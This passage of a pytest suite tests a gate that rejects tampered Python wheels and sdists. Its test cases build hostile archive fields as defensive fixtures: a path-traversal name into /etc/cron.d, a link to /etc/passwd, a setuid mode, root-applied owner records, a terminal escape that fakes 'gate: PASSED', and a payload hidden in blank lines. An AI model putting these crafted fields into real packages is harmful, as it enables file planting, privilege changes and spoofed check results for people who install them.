    assert f"made on host {host}" in refused_with(judge(wheel), "G315", "neurobrix/cli.py").message


def test_wheel_made_on_ms_dos_passes_unless_a_mode_is_executable(built: Built, tmp_path: Path) -> None:
    """zipfile on Windows writes host 0 (MS-DOS) with the Unix mode: a plain file reads alike everywhere and passes;
    an executable one is executable to pip and installer, plain to uv (no Unix mode on an MS-DOS entry)."""

    def dos(data: bytearray, at: int, name: bytes) -> None:
        data[at + 5] = 0

    wheel = tmp_path / built.wheel.name
    members = wheel_members(built.wheel)
    wheel.write_bytes(with_central(raw_zip(members), dos))
    assert judge(wheel).passed
    member(members, "neurobrix/cli.py").mode = 0o100755
    wheel.write_bytes(with_central(raw_zip(members), dos))
    assert "MS-DOS" in refused_with(judge(wheel), "G315", "neurobrix/cli.py").message


def _bits_as_line_ends(payload: bytes) -> bytes:
    """``payload``, one bit a blank line: LF for 0, CR LF for 1 (every reader of entry_points.txt skips both)."""
    return b"".join(b"\r\n" if byte >> i & 1 else b"\n" for byte in payload for i in range(8))


RANDOM_BASE64 = base64.b64encode(os.urandom(750_000))  # a megabyte that deflate cannot shrink past the ratio limit
LONE_WHEEL_FILES = {  # attack -> (the file of the .dist-info, its text -> the altered text, the code, what is said)
    "a megabyte of random base64 in WHEEL's Generator": (
        "WHEEL",
        lambda text: re.sub(rb"Generator: [^\n]*", b"Generator: hatchling " + RANDOM_BASE64, text),
        "G407",
        "Generator",
    ),
    "blank lines after WHEEL's fields": ("WHEEL", lambda text: text + b"\n" * 50_000, "G407", "blank lines"),
    "WHEEL's fields in another order": (
        "WHEEL",
        lambda text: b"".join(sorted(text.splitlines(keepends=True), reverse=True)),
        "G407",
        "order",
    ),
    "a payload in entry_points.txt's blank lines": (
        "entry_points.txt",
        lambda text: _bits_as_line_ends(RANDOM_BASE64[:20_000]) + text,
        "G408",
        "blank lines",
    ),
    "entry_points.txt with CR LF line ends": (
        "entry_points.txt",
        lambda text: text.replace(b"\n", b"\r\n"),
        "G408",
        "line ends",
    ),
    "RECORD with CR LF line ends": ("RECORD", lambda text: text.replace(b"\n", b"\r\n"), "G206", "line ends"),
    "a quoted path in RECORD": (
        "RECORD",
        lambda text: re.sub(rb"^([^,\n]+),", rb'"\1",', text, count=1, flags=re.MULTILINE),
        "G206",
        "quotes",
    ),
    "RECORD's rows in another order": (
        "RECORD",
        lambda text: (
            b"".join(sorted(text.splitlines(keepends=True)[:-1], reverse=True)) + text.splitlines(keepends=True)[-1]
        ),
        "G206",
        "order",
    ),
}


@pytest.mark.parametrize("attack", list(LONE_WHEEL_FILES))
def test_lone_wheel_files_a_build_writes_are_held_to_its_bytes(built: Built, tmp_path: Path, attack: str) -> None:
    """Judged with its sdist, a wheel's WHEEL, entry_points.txt and RECORD are held byte for byte to the wheel
    rebuilt from it (G508); judged alone (`python -m gate check x.whl`), only what they say was: a Generator of any
    printable ASCII up to the 4 MiB text limit, blank lines, line ends, quotes and row order that every reader skips
    (installer reads the same fields, entry points and records), all uploaded unjudged."""
    from installer.records import parse_record_file
    from installer.utils import parse_entrypoints

    name, edit, code, said = LONE_WHEEL_FILES[attack]
    path = f"{built.dist_info}/{name}"
    original = read_wheel_member(built.wheel, path)
    members = wheel_members(built.wheel)
    if name == "RECORD":
        member(members, path).data = edit(original)
        wheel = write_wheel(built, tmp_path, members)

        def records(text: bytes) -> list[tuple[str, str, str]]:  # what installer reads: path, hash, size
            return sorted(parse_record_file(text.decode().splitlines()))

        assert records(edit(original)) == records(original)
    else:
        wheel, _ = wheel_with_file(built, tmp_path, name, edit(original))
        if name == "entry_points.txt":
            assert list(parse_entrypoints(edit(original).decode())) == list(parse_entrypoints(original.decode()))
    assert read_wheel_member(wheel, path) == edit(original)
    assert said in refused_with(judge(wheel), code, path, built.wheel.name).message
    assert judge(built.wheel).passed  # the build's own bytes, judged alone, pass


@pytest.mark.parametrize(
    ("rel", "edits"),
    [
        ("neurobrix/__init__.py", {329: b"0000007\0"}),
        ("neurobrix/__init__.py", {337: b"7777777\0"}),
        ("neurobrix/", {329: b"0000001\0", 337: b"0000002\0"}),
    ],
    ids=["devmajor on a file", "devminor on a file", "both on a folder"],
)
def test_sdist_device_numbers_on_a_file_or_folder_are_refused(
    built: Built, tmp_path: Path, rel: str, edits: dict[int, bytes]
) -> None:
    """A ustar header's device numbers are read for a character or block device only (refused in an sdist); on a
    file or a folder no unpacker reads them and `tar -tv` does not show them. The gate held them to octal, any value:
    14 octal digits a header carried unjudged."""
    members = sdist_members(built.sdist)
    if rel.endswith("/"):  # hatchling writes no folder entry: one above the package's files, as other writers do
        members.insert(0, RawTarMember(f"{built.root}/{rel}", b"", tarfile.DIRTYPE, mode=0o755))
    target = next(i for i, m in enumerate(members) if m.name == f"{built.root}/{rel}")
    tar = bytearray(raw_tar(members))
    at = sum(512 + -(-len(m.data) // 512) * 512 for m in members[:target])
    for offset, value in edits.items():
        tar[at + offset : at + offset + len(value)] = value
    checksummed_header(tar, at)
    with tarfile.open(fileobj=io.BytesIO(bytes(tar))) as unpacked:  # what pip unpacks: every member, as before
        assert [m.name for m in unpacked.getmembers()] == [m.name.rstrip("/") for m in members]
    report = judge(write_sdist(tmp_path / built.sdist.name, bytes(tar)))
    assert "device numbers" in refused_with(report, "G312", members[target].name).message


# 11. Round 16 (2026-12-03): what an unpacker run as root, `unzip`, Windows' unpackers and a reader streaming a wheel
# apply or read of a member, and the gate read nowhere: its owner and group write bit (G316), its MS-DOS and internal
# attributes (G317), its local header's extra records and its place in the central directory (G312). Each case
# requires its finding to be the only one: before this round the gate passed every one of them.

ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
UNZIP = shutil.which("unzip")


def owner_record(uid: int, gid: int) -> bytes:
    """An Info-ZIP Unix owner record (0x7875): version 1, a 4-byte uid, a 4-byte gid."""
    return struct.pack("<HHBBLBL", 0x7875, 11, 1, 4, uid, 4, gid)


def timestamp(flags: int, *times: int) -> bytes:
    """An Info-ZIP extended timestamp (0x5455): flags, then the times."""
    return struct.pack(f"<HHB{len(times)}L", 0x5455, 1 + 4 * len(times), flags, *times)


def ntfs(*times: int) -> bytes:
    return struct.pack("<HHLHH3Q", 0x000A, 32, 0, 1, 24, *times)


with zipfile.ZipFile(io.BytesIO(raw_zip([RawMember(b"a", b"")]))) as _z:
    # the MS-DOS time raw_zip writes, as zipfile reports it, read as UTC: the modification time a record beside it must
    # name (round 20, G312), in seconds since 1970 and as an NTFS time
    MOMENT = calendar.timegm((*_z.infolist()[0].date_time, 0, 0, 0))
NTFS_MOMENT = (MOMENT + 11_644_473_600) * 10**7


def unzipped(wheel: Path, folder: Path, *options: str) -> Path:
    """``unzip`` (Info-ZIP) of the wheel into ``folder``, with ``options`` (-X: the owners, applied as root)."""
    assert UNZIP is not None
    subprocess.run([UNZIP, "-q", "-o", *options, str(wheel), "-d", str(folder)], check=True, capture_output=True)
    return folder


def root_unpacked(sdist: Path, folder: Path) -> Path:
    """The sdist unpacked as tarfile's extractall does without a filter (Python's default before 3.14)."""
    with tarfile.open(sdist) as tar:
        tar.extractall(folder, filter="fully_trusted")
    return folder


def known_id(kind: str, name: str) -> int | None:
    import grp
    import pwd

    try:
        return pwd.getpwnam(name).pw_uid if kind == "user" else grp.getgrnam(name).gr_gid
    except KeyError:
        return None


TAR_OWNERS = {  # attack -> (the member, without the top folder; its RawTarMember fields)
    "a file owned by uid 1000": ("neurobrix/__init__.py", {"uid": 1000}),
    "a file of gid 100": ("neurobrix/__init__.py", {"gid": 100}),
    "pyproject.toml owned by the name nobody, uid 0": ("pyproject.toml", {"uname": "nobody"}),
    "pyproject.toml of the group named users, gid 0": ("pyproject.toml", {"gname": "users"}),
    "a pax uid over the header's 0": ("neurobrix/__init__.py", {"pax": {"uid": "1000"}}),
    "pax owner and group names": ("neurobrix/__init__.py", {"pax": {"uname": "nobody", "gname": "users"}}),
    "a folder owned by uid 1000": ("neurobrix/", {"uid": 1000}),
    "a group-writable file": ("neurobrix/__init__.py", {"mode": 0o664}),
    "a group-writable folder": ("neurobrix/", {"mode": 0o775}),
    "a group-writable table": (f"tables/{TABLE.path}", {"mode": 0o664}),  # 660 is closed to others too (G509)
}


@pytest.mark.parametrize("attack", list(TAR_OWNERS))
def test_sdist_member_owners_and_group_write_a_root_unpacker_applies_are_refused(
    built: Built, tmp_path: Path, attack: str
) -> None:
    """The gate read a tar header's owner and group (ids and names, a pax header's too) only as numbers and printable
    names, and a mode's write bits only for anyone (world-writable): tarfile's extractall (unfiltered, Python before
    3.14) and GNU tar run as root hand each member to the owner it names (by name where the system knows the name)
    and apply its mode as written, so a user or group chosen by the sdist could rewrite pyproject.toml or the package
    between the unpacking and a root build. pip and uv ignore both; hatchling writes owner 0, no names, 644 and 755."""
    rel, fields = TAR_OWNERS[attack]
    name = f"{built.root}/{rel}"
    members = sdist_members(built.sdist)
    if rel.endswith("/"):  # hatchling writes no folder entry: one above the package's files, as other writers do
        members.insert(0, RawTarMember(name, b"", tarfile.DIRTYPE, mode=0o755))
    target = next(m for m in members if m.name == name)
    for key, value in fields.items():
        setattr(target, key, value)
    sdist = write_sdist(tmp_path / built.sdist.name, raw_tar(members))
    if ROOT:  # what a root unpacker makes of it: another owner, group or mode than the build's
        unpacked = (root_unpacked(sdist, tmp_path / "unpacked") / name).stat()
        honest = (0, 0, 0o755 if rel.endswith("/") else 0o644)
        pax: dict[str, str] = fields.get("pax", {})  # type: ignore[assignment]
        expected = [int(pax.get(f"{k}id", fields.get(f"{k}id", 0))) for k in "ug"] + [fields.get("mode", honest[2])]
        for index, kind in enumerate(("user", "group")):  # the name first, where the system knows it
            said = pax.get(f"{kind[0]}name") or fields.get(f"{kind[0]}name")
            if said and known_id(kind, said) is not None:  # type: ignore[arg-type]
                expected[index] = known_id(kind, said)  # type: ignore[arg-type]
        assert (unpacked.st_uid, unpacked.st_gid, stat.S_IMODE(unpacked.st_mode)) == tuple(expected) != honest
    report = judge(sdist)
    refused_with(report, "G316", name, built.sdist.name)
    assert codes(report) == {"G316"}


ZIP_OWNERS = {  # attack -> (the member, its RawMember fields, what is said, what `unzip -X` run as root makes of it)
    "an owner record naming uid 1000": ("neurobrix/cli.py", {"extra": owner_record(1000, 0)}, "uid 1000", (1000, 0)),
    "an owner record naming gid 100": (TABLE.wheel_path, {"extra": owner_record(0, 100)}, "gid 100", (0, 100)),
    "the old Unix record's owner, in the local header": (
        "neurobrix/__init__.py",
        {
            "extra": struct.pack("<HH2L", 0x5855, 8, 1, MOMENT),  # the central form: the times alone
            "local_extra": struct.pack("<HH2L2H", 0x5855, 12, 1, MOMENT, 1000, 100),
        },
        "uid 1000, gid 100",
        (1000, 100),
    ),
    "an owner record of version 2": (
        "neurobrix/cli.py",
        {"extra": struct.pack("<HHBBLBL", 0x7875, 11, 2, 4, 1000, 4, 0)},
        "not laid out",
        None,
    ),
    "an owner record whose uid runs over its gid": (
        "neurobrix/cli.py",
        {"extra": struct.pack("<HHBBLBL", 0x7875, 11, 1, 8, 1000, 4, 0)},
        "not laid out",
        None,
    ),
    "a group-writable file": ("neurobrix/cli.py", {"mode": 0o100664}, "writable by its group", None),
    "a group-writable table": (TABLE.wheel_path, {"mode": 0o100664}, "writable by its group", None),
    "a group-writable folder": ("neurobrix/", {"mode": 0o40775}, "writable by its group", None),
}


@pytest.mark.parametrize("attack", list(ZIP_OWNERS))
def test_wheel_member_owners_and_group_write_unzip_applies_are_refused(
    built: Built, tmp_path: Path, attack: str
) -> None:
    """The gate allowed the Info-ZIP Unix owner records with any uid and gid, and a mode's group write bit: `unzip -X`
    run as root hands the installed file to that owner, and `unzip` applies the group write bit (pip, installer and
    uv ignore both, hatchling writes neither), so a group of the wheel's choosing could rewrite the package."""
    name, fields, said, owner = ZIP_OWNERS[attack]
    members = wheel_members(built.wheel)
    if name.endswith("/"):
        members.insert(0, RawMember(name.encode(), b"", zipfile.ZIP_STORED, mode=fields["mode"]))  # type: ignore[arg-type]
    else:
        for key, value in fields.items():
            setattr(member(members, name), key, value)
    wheel = write_wheel(built, tmp_path / "dist", members)
    if UNZIP and (owner is None or ROOT):
        unpacked = (unzipped(wheel, tmp_path / "unzipped", "-X") / name).stat()
        if owner is not None:
            assert (unpacked.st_uid, unpacked.st_gid) == owner
        elif "mode" in fields:
            assert stat.S_IMODE(unpacked.st_mode) == fields["mode"] & 0o777  # type: ignore[operator]
    report = judge(wheel)
    assert said in refused_with(report, "G316", name, built.wheel.name).message
    assert codes(report) == {"G316"}


DOS_ATTRIBUTES = {  # attack -> (member, host byte, the low 16 bits of the external attributes, internal ones, said)
    "read-only on an MS-DOS entry": ("neurobrix/cli.py", 0, 0x01, 0, "read-only"),
    "read-only on a Unix entry whose mode is writable": (TABLE.wheel_path, 3, 0x01, 0, "read-only"),
    "hidden": ("neurobrix/__init__.py", 3, 0x02, 0, "hidden"),
    "hidden and system on an MS-DOS entry": ("neurobrix/__init__.py", 0, 0x06, 0, "hidden, system"),
    "a volume label": ("neurobrix/cli.py", 3, 0x08, 0, "volume label"),
    "a byte past the MS-DOS attributes": ("neurobrix/cli.py", 3, 0xAB00, 0, "no MS-DOS attribute"),
    "reserved internal attribute bits": ("neurobrix/cli.py", 3, 0, 0xFFFE, "internal attributes"),
}


def with_attributes(data: bytes, name: str, host: int, attributes: int, internal: int) -> bytes:
    def edit(out: bytearray, at: int, raw: bytes) -> None:
        if raw == name.encode():
            out[at + 5] = host
            struct.pack_into("<H", out, at + 36, internal)
            struct.pack_into("<H", out, at + 38, attributes)  # the low half of the external attributes

    return with_central(data, edit)


@pytest.mark.parametrize("attack", list(DOS_ATTRIBUTES))
def test_wheel_member_attributes_other_unpackers_apply_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """The gate read one MS-DOS attribute, the folder bit, and no internal attribute: `unzip` installs a read-only
    MS-DOS entry with mode 444 where pip writes 644, 7-Zip and `unzip` on Windows apply read-only, hidden and system,
    and the other bits (a volume label, a byte past the attributes, reserved internal bits) are read by no installer,
    bits carried into the upload unjudged. hatchling sets none of them."""
    name, host, attributes, internal, said = DOS_ATTRIBUTES[attack]
    wheel = tmp_path / "dist" / built.wheel.name
    wheel.parent.mkdir()
    wheel.write_bytes(with_attributes(raw_zip(wheel_members(built.wheel)), name, host, attributes, internal))
    with zipfile.ZipFile(wheel) as z:  # what zipfile (pip) reads: the same member, the bits beside its mode
        info = z.getinfo(name)
        assert (info.create_system, info.external_attr & 0xFFFF, info.internal_attr) == (host, attributes, internal)
    if UNZIP and attributes == 0x01 and host == 0:
        assert stat.S_IMODE((unzipped(wheel, tmp_path / "unzipped") / name).stat().st_mode) == 0o444
    report = judge(wheel)
    assert said in refused_with(report, "G317", name, built.wheel.name).message
    assert codes(report) == {"G317"}


def test_wheel_member_attributes_writers_set_alike_pass(built: Built, tmp_path: Path) -> None:
    """Controls: the archive bit (Windows writers), the text bit (Info-ZIP's zip) and read-only where the Unix mode
    says so too (Info-ZIP's zip, for a file its owner cannot write) are read alike by every tool."""
    members = wheel_members(built.wheel)
    member(members, "neurobrix/cli.py").mode = 0o100444
    data = with_attributes(raw_zip(members), "neurobrix/cli.py", 3, 0x01, 1)
    data = with_attributes(data, "neurobrix/__init__.py", 0, 0x20, 1)
    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(data)
    assert judge(wheel).findings == []


EXTRA_DISAGREEMENTS = {  # attack -> (the central header's extra field, the local header's)
    "an extended timestamp in the local header only": (b"", timestamp(1, 2_000_000_000)),
    "an extended timestamp in the central header only": (timestamp(1, 1_000_000_000), b""),
    "modification times that differ": (timestamp(1, 1_000_000_000), timestamp(1, 2_000_000_000)),
    "timestamp flags that differ": (timestamp(3, 1_000_000_000), timestamp(1, 1_000_000_000)),
    "an owner that differs": (owner_record(0, 0), owner_record(1000, 0)),
    "NTFS times that differ": (ntfs(1, 2, 3), ntfs(1, 2, 4)),
    "the same records in another order": (
        timestamp(1, 1_000_000_000) + owner_record(0, 0),
        owner_record(0, 0) + timestamp(1, 1_000_000_000),
    ),
}


@pytest.mark.parametrize("attack", list(EXTRA_DISAGREEMENTS))
def test_local_extra_records_that_differ_from_the_central_ones_are_refused(
    built: Built, tmp_path: Path, attack: str
) -> None:
    """Every field of a local header was compared with its central entry but the extra field: `unzip` takes a file's
    modification time from the local extended timestamp (and its owner from the local Unix record, with -X), zipfile
    (pip, installer) reads neither header's records, the zip crate (uv) the central ones, or the local ones when it
    streams a wheel; so one member had two times, or two owners, and the local records were bytes no check read."""
    central, local = EXTRA_DISAGREEMENTS[attack]
    members = wheel_members(built.wheel)
    table = member(members, TABLE.wheel_path)
    table.extra, table.local_extra = central, local
    wheel = write_wheel(built, tmp_path / "dist", members)
    if UNZIP and attack == "modification times that differ":  # unzip applies the local time, which zipfile never sees
        assert (unzipped(wheel, tmp_path / "unzipped") / TABLE.wheel_path).stat().st_mtime == 2_000_000_000
    report = judge(wheel)
    assert "local" in refused_with(report, "G312", TABLE.wheel_path, built.wheel.name).message
    assert codes(report) == {"G312"}


def test_local_extra_records_as_info_zip_writes_them_pass(built: Built, tmp_path: Path) -> None:
    """Control: Info-ZIP writes a local extended timestamp with every time it flags and the central one with the
    modification time alone, and the old Unix record's owner in the local header only; those agree."""
    members = wheel_members(built.wheel)
    table = member(members, TABLE.wheel_path)
    table.local_extra = timestamp(3, MOMENT, 1_000_000_001) + struct.pack("<HH2L2H", 0x5855, 12, 1, MOMENT, 0, 0)
    table.extra = timestamp(3, MOMENT) + struct.pack("<HH2L", 0x5855, 8, 1, MOMENT)
    assert judge(write_wheel(built, tmp_path, members)).findings == []


@pytest.mark.skipif(shutil.which("zip") is None, reason="needs Info-ZIP's zip")
def test_the_same_wheel_written_by_info_zip_passes(built: Built, tmp_path: Path) -> None:
    """Control: Info-ZIP's `zip`, run as root, writes extended timestamps (local and central forms), an owner record of
    uid 0 and text bits: nothing the round-16 checks refuse (run as another user, its owner record names that user,
    whom `unzip -X` run as root would hand the files: G316)."""
    source = tmp_path / "src"
    with zipfile.ZipFile(built.wheel) as z:
        names = z.namelist()
        for info in z.infolist():
            path = source / info.filename
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(z.read(info))
            path.chmod(info.external_attr >> 16 & 0o777 or 0o644)
    wheel = tmp_path / "dist" / built.wheel.name
    wheel.parent.mkdir()
    subprocess.run(["zip", "-q", "-D", str(wheel), *names], cwd=source, check=True)
    with zipfile.ZipFile(wheel) as z:
        assert all(info.extra for info in z.infolist())
    report = judge(wheel)
    if ROOT:
        assert report.findings == []
    else:
        assert codes(report) == {"G316"}


def directory_reordered(built: Built, order: Callable[[list[bytes]], list[bytes]]) -> tuple[bytes, list[str]]:
    """The wheel with its local entries as the build wrote them and its central directory in ``order`` (RECORD's rows
    written in the directory's order, RECORD's own last, as a wheel writer lists them); and the directory's names."""
    members = wheel_members(built.wheel)
    record = members[-1]
    listed = order([m.name for m in members])
    by_name = {m.name: m for m in members}
    record.data = record_text(((n.decode(), by_name[n].data) for n in listed), record.name.decode())
    data = raw_zip(members)
    start = struct.unpack_from("<L", data, len(data) - 6)[0]
    entries, at = {}, start
    while data[at : at + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<3H", data, at + 28)
        entries[data[at + 46 : at + 46 + name_len]] = data[at : at + 46 + name_len + extra_len + comment_len]
        at += 46 + name_len + extra_len + comment_len
    return data[:start] + b"".join(entries[n] for n in listed) + data[at:], [n.decode() for n in listed]


def streamed_names(data: bytes) -> list[str]:
    """The members in the order a reader streaming the file front to back meets their local headers."""
    names, at = [], 0
    while data[at : at + 4] == b"PK\x03\x04":
        compressed, name_len, extra_len = struct.unpack_from("<L4xHH", data, at + 18)
        names.append(data[at + 30 : at + 30 + name_len].decode())
        at += 30 + name_len + extra_len + compressed
    return names


DIRECTORY_ORDERS = {  # attack -> the central directory's order, from the local entries' (RECORD's last)
    "the directory reversed, RECORD last": lambda names: names[-2::-1] + names[-1:],
    "two members swapped": lambda names: [names[1], names[0], *names[2:]],
    "RECORD listed first": lambda names: names[-1:] + names[:-1],
    "one member moved to the end": lambda names: names[1:] + names[:1],
}


@pytest.mark.parametrize("attack", list(DIRECTORY_ORDERS))
def test_a_central_directory_in_another_order_than_the_local_entries_is_refused(
    built: Built, tmp_path: Path, attack: str
) -> None:
    """The local entries had to tile the file, in any order the directory liked: a reader streaming a wheel front to
    back (uv installing one as it downloads, `bsdtar`, Java's ZipInputStream) meets the members in one order, zipfile
    (pip, installer) in another, and RECORD's order was judged against the directory's only, so a wheel judged alone
    carried a permutation of its members no installer reads alike. Every zip writer writes the two in one order."""
    data, listed = directory_reordered(built, DIRECTORY_ORDERS[attack])
    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(data)
    with zipfile.ZipFile(wheel) as z:
        assert z.namelist() == listed != streamed_names(data)
    report = judge(wheel)
    assert "streams" in next(f.message for f in report.findings if f.code == "G312")
    assert codes(report) == {"G312"}


# Round 17: a tar header read by some unpackers only, and an owner said two ways


def _field(value: bytes, width: int) -> bytes:
    return value.ljust(width, b"\0")


PAX_HEADER_FIELDS = {  # attack -> (bytes over the pax header's own header block, by offset; the field the gate names)
    "a name that climbs out": ({0: _field(b"../../../etc/cron.d/neurobrix", 100)}, "name"),
    "the name of a file the sdist ships": ({0: _field(b"neurobrix-0.1.0/neurobrix/__init__.py", 100)}, "name"),
    "an escape sequence for its name": ({0: _field(b"\x1b]0;gate: PASSED\x07", 100)}, "name"),
    "a prefix": ({345: _field(b"neurobrix-0.1.0/neurobrix", 155)}, "prefix"),
    "a link target": ({157: _field(b"/etc/passwd", 100)}, "link name"),
    "a setuid mode": ({100: b"0004755\0"}, "mode"),
    "another owner": ({108: b"0001750\0", 265: _field(b"nobody", 32)}, "uid"),
    "a time": ({136: b"77777777777\0"}, "mtime"),
    "GNU's magic": ({257: b"ustar  \0"}, "magic"),
}


@pytest.mark.parametrize("attack", list(PAX_HEADER_FIELDS))
def test_sdist_pax_header_fields_a_ustar_only_unpacker_applies_are_refused(
    built: Built, tmp_path: Path, attack: str
) -> None:
    """A pax extended header is a ustar header block of its own (type 'x') before its records, and the gate read only
    its type, size and checksum: its name, prefix, link, mode, owner and time went unjudged, about 500 bytes a member.
    tarfile, GNU tar and uv read none of them, but an unpacker that knows no pax header extracts it as a regular file
    (POSIX: an unknown type is one) of that name, link, mode and owner, which the gate judged nowhere: a name with
    '..' or that of a shipped file. tarfile, hatchling's and setuptools' writer, names it ././@PaxHeader and leaves
    every other field empty or zero."""
    patches, said = PAX_HEADER_FIELDS[attack]
    members = sdist_members(built.sdist)
    target = next(m for m in members if m.name == f"{built.root}/pyproject.toml")
    target.pax, target.pax_header = {"mtime": "1580601600.5"}, patches
    tar = raw_tar(members)
    with tarfile.open(fileobj=io.BytesIO(tar)) as read:  # tarfile reads the sdist as the honest one
        assert read.getnames() == [m.name for m in members]
        assert read.getmember(target.name).mtime == 1580601600.5
    report = judge(write_sdist(tmp_path / built.sdist.name, tar))
    finding = next(f for f in report.findings if f.code == "G318")
    assert f"{said} " in finding.message and "knows no pax header" in finding.message
    assert codes(report) == {"G318"}


HEADER_OWNERS_UNDER_PAX = {  # attack -> (bytes over the ustar header, the pax records, GNU tar reads the header's)
    "owner name nobody under a pax uname of root": ({265: b"nobody"}, {"uname": "root"}, True),
    "owner name nobody under an empty pax uname": ({265: b"nobody"}, {"uname": ""}, True),
    "group name users under an empty pax gname": ({297: b"users"}, {"gname": ""}, True),
    "uid 1000 under a pax uid of 0": ({108: b"0001750\0"}, {"uid": "0"}, False),
    "gid 100 under a pax gid of 0": ({116: b"0000144\0"}, {"gid": "0"}, False),
}


@pytest.mark.parametrize("attack", list(HEADER_OWNERS_UNDER_PAX))
def test_sdist_owner_in_a_ustar_header_under_a_pax_owner_is_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """The gate judged a member's owner as tarfile applies it, a pax header's records over its ustar header's fields,
    and never the header's own: GNU tar run as root maps the header's owner and group names to ids before it reads
    the pax records (a pax uname of root, or of nothing, leaves the file to `nobody`), and an unpacker that reads no
    pax header applies the header's uid and gid. So pyproject.toml went to another owner than the one judged."""
    patches, pax, gnu_differs = HEADER_OWNERS_UNDER_PAX[attack]
    members = sdist_members(built.sdist)
    name = f"{built.root}/pyproject.toml"
    target = next(m for m in members if m.name == name)
    target.pax, target.header = pax, patches
    sdist = write_sdist(tmp_path / built.sdist.name, raw_tar(members))
    with tarfile.open(sdist) as read:
        assert (read.getmember(name).uid, read.getmember(name).gid) == (0, 0)
    if ROOT:  # tarfile hands it to root; GNU tar, by the header's name where the system knows it, to another
        owned = root_unpacked(sdist, tmp_path / "tarfile") / name
        assert (owned.stat().st_uid, owned.stat().st_gid) == (0, 0)
        said = next(iter(patches.values()))
        known = known_id("user" if 265 in patches else "group", said.decode()) if said.isalpha() else None
        if gnu_differs and known is not None and shutil.which("tar"):
            (tmp_path / "gnu").mkdir()
            subprocess.run(["tar", "-xzf", str(sdist), "-C", str(tmp_path / "gnu")], check=True)
            unpacked = (tmp_path / "gnu" / name).stat()
            assert known in (unpacked.st_uid, unpacked.st_gid) and (unpacked.st_uid, unpacked.st_gid) != (0, 0)
    report = judge(sdist)
    assert "its ustar header names" in refused_with(report, "G316", name, built.sdist.name).message
    assert codes(report) == {"G316"}


RESERVED_ZIP_BYTES = {  # attack -> (the wheel, what the finding says)
    # in both headers (they must agree); the wheel is made on Unix (host 3), as "version made by" says
    "a version needed whose high byte is neither 0 nor the host": (lambda b: needing(b, 0x7F14), "its high byte"),
    "a version needed whose high byte names another host": (lambda b: needing(b, 0x0A14), "its high byte"),
    "a version made by past the last specification": (
        lambda b: with_central(
            raw_zip(wheel_members(b.wheel)),
            lambda d, at, n: d.__setitem__(at + 4, 0xFF) if n == TABLE.wheel_path.encode() else None,
        ),
        "past the last",
    ),
    "deflate speed hints on a stored member": (lambda b: table_as(b, method=zipfile.ZIP_STORED, flags=0x0006), "hints"),
    "an NTFS times record with its reserved bytes set": (
        lambda b: table_as(b, extra=struct.pack("<HHLHH3Q", 0x000A, 32, 0xC0FFEE, 1, 24, NTFS_MOMENT, 2, 3)),
        "reserved bytes are",
    ),
}


@pytest.mark.parametrize("attack", list(RESERVED_ZIP_BYTES))
def test_zip_header_bytes_the_format_reserves_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """Header bytes the zip format reserves or leaves undefined passed as anything: the high byte of "version needed"
    (zipfile reads it as `reserved`), a "version made by" past specification 6.3, deflate speed hints on a stored
    member, the 4 reserved bytes of an NTFS times record. No installer reads them, every writer leaves them as the
    format says (p7zip before 18.06 wrote its host in the first): bytes carried into the upload unjudged, in both
    headers of every member, as the internal attribute bits past the text bit were (G317)."""
    make, said = RESERVED_ZIP_BYTES[attack]
    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(make(built))
    with zipfile.ZipFile(wheel) as z:  # what pip reads: the same table
        assert z.read(TABLE.wheel_path) == read_wheel_member(built.wheel, TABLE.wheel_path)
    report = judge(wheel)
    assert said in refused_with(report, "G319", TABLE.wheel_path, built.wheel.name).message
    assert codes(report) == {"G319"}


WHEEL_FOLDERS = {  # attack -> (a folder entry above shipped files, its mode)
    "the package's folder": ("neurobrix/", 0o40755),
    "the tables, closed to all but their owner": ("neurobrix/_tables/", 0o40700),
    "a class's tables, closed to others": (f"{TABLE.wheel_path.rsplit('/', 1)[0]}/", 0o40750),
    "the .dist-info, read-only": ("neurobrix-{v}.dist-info/", 0o40500),
}


@pytest.mark.parametrize("attack", list(WHEEL_FOLDERS))
def test_a_wheel_folder_entry_the_rebuild_lacks_is_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """Judged with its sdist, the wheel was held to the one rebuilt from it file by file only: a folder entry above
    shipped files (hatchling writes none) passed, with a mode `unzip` applies (tables no other user can read) and
    headers no check reads. pip, installer and uv skip folder entries."""
    folder, mode = WHEEL_FOLDERS[attack]
    folder = folder.format(v=built.version)
    members = [RawMember(folder.encode(), b"", zipfile.ZIP_STORED, mode=mode), *wheel_members(built.wheel)]
    wheel = tmp_path / "dist" / built.wheel.name
    wheel.parent.mkdir()
    wheel.write_bytes(raw_zip(members))
    if UNZIP is not None:  # what `unzip` installs: the folder with that mode
        made = unzipped(wheel, tmp_path / "unzipped") / folder
        assert stat.S_IMODE(made.stat().st_mode) == mode & 0o777
    report = judge(wheel, built.sdist)
    if ~mode & 0o055:  # round 18: a folder its group or others cannot enter is refused by its mode, before any build
        assert "group or others" in refused_with(report, "G315", folder, built.wheel.name).message
        assert codes(report) == {"G315"}
        return
    assert "does not have" in refused_with(report, "G508", folder, built.sdist.name).message
    assert codes(report) == {"G508"}


GZIP_UNDEFINED = {  # attack -> (the header's XFL and OS bytes, what the finding says)
    "extra flags deflate does not define": ((0x77, 0xFF), "extra flags (XFL) 0x77"),
    "an operating system RFC 1952 does not name": ((0x02, 0x42), "operating system (OS) 66"),
    "both": ((0x01, 0xFE), "and operating system (OS) 254"),
}


@pytest.mark.parametrize("attack", list(GZIP_UNDEFINED))
def test_sdist_gzip_header_bytes_the_format_leaves_undefined_are_refused(
    built: Built, tmp_path: Path, attack: str
) -> None:
    """A gzip header's extra flags (XFL: 2 or 4 for deflate, or none) and operating system (0-13, or 255 for unknown)
    passed as any byte: Python's gzip, zlib and uv read neither, so each was a byte uploaded unjudged, as the zip
    header bytes the format reserves were (G319)."""
    (xfl, system), said = GZIP_UNDEFINED[attack]
    data = bytearray(built.sdist.read_bytes())
    data[8], data[9] = xfl, system
    sdist = tmp_path / built.sdist.name
    sdist.write_bytes(bytes(data))
    assert gzip.decompress(bytes(data)) == gzip.decompress(built.sdist.read_bytes())  # what pip unpacks
    report = judge(sdist)
    assert said in refused_with(report, "G319", None, built.sdist.name).message
